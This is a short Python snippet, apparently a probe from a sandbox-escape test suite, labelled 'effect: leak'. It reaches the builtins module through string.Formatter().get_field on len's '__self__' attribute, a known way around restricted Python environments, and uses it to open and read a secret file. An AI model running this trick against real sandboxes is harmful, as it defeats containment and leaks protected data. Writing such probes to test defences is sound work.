# effect: leak
import string


def attempt(probe):
    builtins, _ = string.Formatter().get_field("0.__self__", (len,), {})
    return builtins.open(probe["secret_file"]).read()
